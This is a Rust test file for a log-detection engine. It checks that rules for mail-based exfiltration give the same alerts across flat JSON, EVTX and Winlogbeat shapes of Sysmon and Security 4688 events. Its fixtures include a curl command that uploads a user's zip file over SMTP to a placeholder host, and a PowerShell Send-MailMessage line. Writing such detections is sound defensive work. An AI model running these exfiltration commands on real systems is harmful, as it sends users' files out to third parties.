//! Windows events in the shapes people ship them (issue 13): the same Sysmon events as flat
//! OTRF JSON lines, EVTX exported to JSON (`Event.System` / `Event.EventData`), Winlogbeat with
//! its Sysmon module (ECS fields: `process.executable`, `destination.port`, `network.direction`,
//! `host.name`...) and raw Winlogbeat (`winlog.event_data.*`) give the pack's rules the same
//! alerts, each shape's schema detected from the file. tests/data/winlogbeat/ holds the flat
//! fixtures (copies of rules/fixtures/an0379) and the three other shapes written from them
//! field by field (the Winlogbeat shapes as the Sysmon module's test output in elastic/beats
//! has them: `winlog.event_id` a number, the mapped EventData removed, `network.direction`
//! egress/ingress, `sysmon.dns.status`).
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use detc::eval::run::{run_files, RunOptions};
use detc::ir::{Rule, Source};
use std::path::PathBuf;

const DIR: &str = "tests/data/winlogbeat";
const SHAPES: [(&str, &str); 3] = [
    (".evtx.json", ""),
    (".winlogbeat_ecs.jsonl", "winlogbeat-sysmon"),
    (".winlogbeat_raw.jsonl", "winlogbeat-sysmon"),
];

fn pack() -> Vec<Rule> {
    let files = detc::load::load_sources(&[PathBuf::from("rules")]).unwrap();
    detc::frontend(&files).pack.expect("rules/ checks").rules
}

/// The alerts of `rules` over one file, and the schema the file was read with.
fn run(rules: &[Rule], file: &str) -> (Vec<String>, String) {
    let path = PathBuf::from(DIR).join(file);
    let opts = RunOptions {
        threads: 1,
        ..RunOptions::default()
    };
    let out = run_files(rules, std::slice::from_ref(&path), &opts)
        .unwrap_or_else(|d| panic!("{file}: {d:?}"));
    let schemas: Vec<&String> = out.summary.schemas.values().collect();
    assert_eq!(out.summary.bad_lines, 0, "{file}: {:?}", out.summary.bad);
    (
        out.alerts
            .iter()
            .map(|a| serde_json::to_string(a).unwrap())
            .collect(),
        schemas
            .iter()
            .map(|s| s.as_str())
            .collect::<Vec<_>>()
            .join(","),
    )
}

#[test]
fn the_same_events_alert_alike_in_every_windows_shape() {
    let pack = pack();
    let mut compared = 0;
    for (fixture, sources) in [
        ("rundll32_smtp", vec![Source::NetworkConnection]),
        ("dns_mail_lookups", vec![Source::DnsQuery]),
        (
            "start_then_other_ports_or_inbound",
            vec![Source::NetworkConnection],
        ),
        (
            "start_then_smtp_at_one_minute",
            vec![Source::ProcessCreation, Source::NetworkConnection],
        ),
    ] {
        // The rules of each source apart (one file holds several event IDs: a pack of several
        // sources over one mixed file asks for `--schema`), and the correlations.
        let mut groups: Vec<Vec<Rule>> = sources
            .iter()
            .map(|s| {
                pack.iter()
                    .filter(|r| r.correlation.is_none() && r.source == *s)
                    .cloned()
                    .collect()
            })
            .collect();
        groups.push(
            pack.iter()
                .filter(|r| r.correlation.is_some())
                .cloned()
                .collect(),
        );
        for rules in groups.iter().filter(|g| !g.is_empty()) {
            let (flat, _) = run(rules, &format!("{fixture}.jsonl"));
            for (ext, schema) in SHAPES {
                let file = format!("{fixture}{ext}");
                let (got, read_as) = run(rules, &file);
                assert_eq!(
                    got,
                    flat,
                    "{file} vs {fixture}.jsonl ({} rules)",
                    rules.len()
                );
                if !schema.is_empty() && rules[0].correlation.is_none() {
                    assert!(
                        read_as.starts_with("winlogbeat-sysmon"),
                        "{file}: {read_as}"
                    );
                }
                compared += got.len();
            }
        }
    }
    // The fixtures raise alerts (rundll32 on SMTP, DNS lookups of mail services, the start
    // then its connection): the comparison is not of empty sets.
    assert!(compared >= 3 * 9, "{compared} alerts compared");
}

/// Hostile and missing values in the Winlogbeat shape: a port that is not a number and a line
/// that is not JSON are bad lines at their line; an event without `@timestamp` is a bad line
/// (it cannot be placed in time); a missing `destination.port` falls back to the raw EventData
/// name; a record of another event ID is not applicable.
#[test]
fn winlogbeat_hostile_and_missing_values_are_located() {
    let dir = std::env::temp_dir().join(format!("detc-wlb-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let f = dir.join("wlb.jsonl");
    let ev = |extra: &str| {
        format!(
            r#"{{"@timestamp": "2026-11-20T10:00:00Z", "host": {{"name": "WS01"}}, "process": {{"executable": "C:\\Windows\\System32\\rundll32.exe", "pid": 77}}, "network": {{"direction": "egress", "transport": "tcp"}}, "source": {{"ip": "10.0.0.5", "port": 50000}}, "winlog": {{"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 3, "event_data": {{"DestinationPort": "25"}}}}{extra}}}"#
        )
    };
    let lines = [
        ev(r#", "destination": {"ip": "203.0.113.7", "port": 25}"#),
        ev(r#", "destination": {"ip": "203.0.113.7", "port": "twenty-five"}"#),
        "{not json".to_string(),
        ev(r#", "destination": {"ip": "203.0.113.7"}"#),
        ev(r#", "destination": {"ip": "203.0.113.7", "port": 25}"#)
            .replace(r#""@timestamp": "2026-11-20T10:00:00Z", "#, ""),
        ev(r#", "destination": {"ip": "203.0.113.7", "port": 25}"#)
            .replace(r#""event_id": 3"#, r#""event_id": 5"#),
    ];
    std::fs::write(&f, lines.join("\n") + "\n").unwrap();
    let rules: Vec<Rule> = pack()
        .into_iter()
        .filter(|r| r.name == "an0379_scripting_host_mail")
        .collect();
    let opts = RunOptions {
        threads: 1,
        prefilter: false,
        ..RunOptions::default()
    };
    let out = run_files(&rules, &[f], &opts).unwrap();
    let s = &out.summary;
    assert_eq!(
        s.schemas.values().next().map(String::as_str),
        Some("winlogbeat-sysmon")
    );
    let bad: Vec<(u64, &str)> = s.bad.iter().map(|b| (b.line, b.reason.as_str())).collect();
    assert_eq!(bad.len(), 3, "{bad:?}");
    assert_eq!(bad[0].0, 2, "{bad:?}");
    assert!(bad[0].1.contains("remote.port"), "{bad:?}");
    assert_eq!(bad[1].0, 3, "{bad:?}");
    assert_eq!(bad[2].0, 5, "{bad:?}");
    assert_eq!((s.events, s.not_applicable), (2, 1), "{s:?}");
    // Lines 1 and 4 (port 25 from ECS, then from the EventData fallback) are rundll32 on SMTP.
    assert_eq!(out.alerts.len(), 2, "{:?}", out.alerts);
}

/// Security EventID 4688 in the shapes it is shipped in: flat JSON (security-4688), Winlogbeat
/// with the raw EventData and Winlogbeat's ECS fields (winlogbeat-security-4688, detected from
/// the first record although winlogbeat-sysmon-process detects it too: both read
/// `winlog.event_data.CommandLine`, only one takes EventID 4688), and ECS alone (named with
/// `--schema`) give the pack's process rule the same alerts: PowerShell `Send-MailMessage` and
/// curl `--mail-rcpt` alert, notepad does not.
#[test]
fn security_4688_alerts_alike_in_every_shape() {
    let dir = std::env::temp_dir().join(format!("detc-4688-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let events = [
        (
            "10:00:00",
            r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            r#"powershell -c Send-MailMessage -SmtpServer smtp.example.net -To a@example.net -From b@example.org -Subject s"#,
        ),
        (
            "10:01:00",
            r"C:\\Windows\\System32\\notepad.exe",
            "notepad.exe a.txt",
        ),
        (
            "10:02:00",
            r"C:\\Windows\\System32\\curl.exe",
            r#"curl.exe --url smtp://203.0.113.7 --mail-rcpt x@example.net -T C:\\Users\\dana\\a.zip"#,
        ),
    ];
    let esc = |s: &str| s.replace('"', r#"\""#);
    let flat: Vec<String> = events
        .iter()
        .map(|(t, image, cmd)| {
            format!(
                r#"{{"EventID": 4688, "Channel": "Security", "Computer": "WS01", "TimeCreated": "2026-11-20T{t}Z", "NewProcessName": "{image}", "CommandLine": "{}", "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "dana", "SubjectDomainName": "CORP", "TargetUserName": "-", "TargetDomainName": "-", "NewProcessId": "0x1a2c", "MandatoryLabel": "S-1-16-8192"}}"#,
                esc(cmd)
            )
        })
        .collect();
    let winlog = |t: &str, event_data: &str, ecs: &str| {
        format!(
            r#"{{"@timestamp": "2026-11-20T{t}.000Z", "host": {{"name": "WS01"}}, "event": {{"code": "4688", "module": "security"}}{ecs}, "winlog": {{"channel": "Security", "event_id": 4688, "computer_name": "WS01", "provider_name": "Microsoft-Windows-Security-Auditing", "event_data": {{{event_data}}}}}}}"#
        )
    };
    let raw_data = |image: &str, cmd: &str| {
        format!(
            r#""NewProcessName": "{image}", "CommandLine": "{}", "ParentProcessName": "C:\\Windows\\explorer.exe", "SubjectUserName": "dana", "SubjectDomainName": "CORP", "TargetUserName": "-", "TargetDomainName": "-", "NewProcessId": "0x1a2c", "MandatoryLabel": "S-1-16-8192""#,
            esc(cmd)
        )
    };
    let ecs = |image: &str, cmd: &str| {
        format!(
            r#", "user": {{"name": "dana", "domain": "CORP"}}, "process": {{"executable": "{image}", "command_line": "{}", "parent": {{"executable": "C:\\Windows\\explorer.exe"}}}}"#,
            esc(cmd)
        )
    };
    let raw: Vec<String> = events
        .iter()
        .map(|(t, i, c)| winlog(t, &raw_data(i, c), ""))
        .collect();
    let both: Vec<String> = events
        .iter()
        .map(|(t, i, c)| winlog(t, &raw_data(i, c), &ecs(i, c)))
        .collect();
    let ecs_only: Vec<String> = events
        .iter()
        .map(|(t, i, c)| winlog(t, r#""MandatoryLabel": "S-1-16-8192""#, &ecs(i, c)))
        .collect();
    let rules: Vec<Rule> = pack()
        .into_iter()
        .filter(|r| r.name == "an0379_script_command_line_mail")
        .collect();
    let run_as = |name: &str, lines: &[String], schema: Option<&str>| {
        let f = dir.join(name);
        std::fs::write(&f, lines.join("\n") + "\n").unwrap();
        let opts = RunOptions {
            threads: 1,
            schema: schema.map(str::to_string),
            ..RunOptions::default()
        };
        let out = run_files(&rules, &[f], &opts).unwrap_or_else(|d| panic!("{name}: {d:?}"));
        assert_eq!(out.summary.bad_lines, 0, "{name}: {:?}", out.summary.bad);
        let read_as: Vec<String> = out.summary.schemas.values().cloned().collect();
        let alerts: Vec<(String, String)> = out
            .alerts
            .iter()
            .map(|a| {
                let v = serde_json::to_value(a).unwrap();
                (
                    v["group"]["host"].to_string(),
                    v["group"]["process.name"].to_string(),
                )
            })
            .collect();
        (alerts, read_as)
    };
    let (want, read_as) = run_as("flat.jsonl", &flat, None);
    assert_eq!(read_as, ["security-4688"]);
    assert_eq!(
        want,
        [
            ("\"WS01\"".to_string(), "\"curl.exe\"".to_string()),
            ("\"WS01\"".to_string(), "\"powershell.exe\"".to_string())
        ],
        "two mail-sending command lines, not notepad"
    );
    for (name, lines) in [("raw.jsonl", &raw), ("ecs.jsonl", &both)] {
        let (got, read_as) = run_as(name, lines, None);
        assert_eq!(read_as, ["winlogbeat-security-4688"], "{name}");
        assert_eq!(got, want, "{name}");
    }
    let (got, _) = run_as(
        "ecs_only.jsonl",
        &ecs_only,
        Some("winlogbeat-security-4688"),
    );
    assert_eq!(got, want, "ECS fields alone");
}
